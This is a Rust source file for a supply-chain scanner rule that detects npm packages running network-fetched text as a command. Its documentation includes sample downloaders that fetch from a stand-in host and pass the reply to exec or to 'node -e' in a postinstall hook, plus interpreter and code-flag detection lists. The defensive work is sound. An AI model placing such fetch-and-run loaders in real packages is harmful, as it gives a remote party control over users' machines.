//! # Text from the network runs as a command
//!
//! What a host answered becomes a command line, or the program text of an interpreter, in code that runs by
//! itself.
//!
//! ## Why it matters
//!
//! It is a remote shell with a delay: whoever answers decides what runs on this machine.
//!
//! ## Known benign uses
//!
//! Installers put a version or a file name from an answer into a command of their own. There the program is
//! named in the package; here it comes from the network.
//!
//! ## Bad
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! const { exec } = require("child_process");
//! require("https").get("https://tasks.invalid/next", (response) => {
//!   let text = "";
//!   response.on("data", (chunk) => { text += chunk; });
//!   response.on("end", () => exec(text)); //~ here
//! });
//! ```
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node boot.mjs"}}
//! == boot.mjs
//! import { spawn } from "node:child_process";
//! const reply = await fetch("https://tasks.invalid/stage");
//! spawn("node", ["-e", await reply.text()]); //~ here
//! ```
//!
//! ## Good
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node install.mjs"}}
//! == install.mjs
//! import { execFileSync } from "node:child_process";
//! const reply = await fetch("https://releases.example/latest.json");
//! const { version } = await reply.json();
//! execFileSync("npm", ["install", "--no-save", "x-linux-x64@" + version]);
//! ```
//!
//! ## References
//!
//! - Unit 42: Contagious Interview, the loaders of BeaverTail and InvisibleFerret

use stockade_facts::flow::ArgumentFact;
use stockade_facts::vocabulary::HOLE;

use crate::prelude::*;

/// Text from the network runs as a command.
pub struct DownloadedTextRunAsCommand;

impl Rule for DownloadedTextRunAsCommand {
    fn meta(&self) -> &'static RuleMeta {
        &RuleMeta {
            id: "downloaded-text-run-as-command",
            title: "Text from the network runs as a command",
            tier: Tier::Source,
            role: Role::Threat,
            severity: Level::High,
            specificity: Level::High,
            technique: "T1105",
            covers: &[
                "fetch-then-eval",
                "config-file-exec",
                "exfil-websocket",
                "dead-drop-json-store",
                "blockchain-c2-contract",
                "node-e-inline",
            ],
            status: RuleStatus::Stable,
            since: "0.1.0",
        }
    }

    fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
        for flow in facts
            .flows(|source| matches!(source, Source::Network(_)), |sink| matches!(sink, Sink::Command(_)))
        {
            let is_unwatched = flow.trigger.runs_unwatched();
            let mut calls =
                facts.all_calls().iter().filter(|call| call.spot == flow.sink_spot && call.api == flow.api);
            if is_unwatched && calls.any(takes_program) {
                found.flow(flow);
            }
        }
    }
}

/// Whether what is unknown in the call is the program itself, rather than a word of a known one.
fn takes_program(call: &CallFact) -> bool {
    let Some(first) = call.arguments.first() else { return false };
    let is_remote =
        |argument: &ArgumentFact| argument.sources.iter().any(|source| matches!(source, Source::Network(_)));
    let is_shell = call.api.contains("exec") && !call.api.contains("execFile") || call.api.ends_with('$');
    if is_shell && is_remote(first) {
        return first.texts.is_empty()
            || first.texts.iter().any(|text| is_unknown(text) || feeds_interpreter(text));
    }
    let starts_interpreter = first.texts.is_empty() || first.texts.iter().any(|text| is_interpreter(text));
    let list = call.arguments.get(1);
    starts_interpreter
        && list.is_some_and(|list| is_remote(list) && list.texts.iter().any(|text| is_code_option(text)))
}

fn is_unknown(text: &str) -> bool {
    text.chars().all(|character| character == HOLE || character.is_whitespace())
}

/// `node -e "…"` with an unknown program.
fn feeds_interpreter(text: &str) -> bool {
    let words: Vec<&str> = text.split_whitespace().collect();
    let is_known = words.first().is_some_and(|word| is_interpreter(word));
    is_known && words.windows(2).any(|pair| matches!(pair, [option, code] if is_code_option(option) && code.trim_matches(['"', '\'']).starts_with(HOLE)))
}

fn is_interpreter(program: &str) -> bool {
    const NAMES: [&str; 17] = [
        "node",
        "nodejs",
        "bun",
        "deno",
        "python",
        "python3",
        "py",
        "sh",
        "bash",
        "zsh",
        "dash",
        "powershell",
        "pwsh",
        "cmd",
        "perl",
        "ruby",
        "osascript",
    ];
    let name = program.rsplit(['/', '\\']).next().unwrap_or_default().to_ascii_lowercase();
    NAMES.contains(&name.trim_end_matches(".exe"))
}

fn is_code_option(option: &str) -> bool {
    matches!(
        option.to_ascii_lowercase().as_str(),
        "-e" | "-c"
            | "-p"
            | "-lc"
            | "/c"
            | "/s/c"
            | "--eval"
            | "--print"
            | "-command"
            | "-encodedcommand"
            | "-enc"
            | "eval"
    )
}
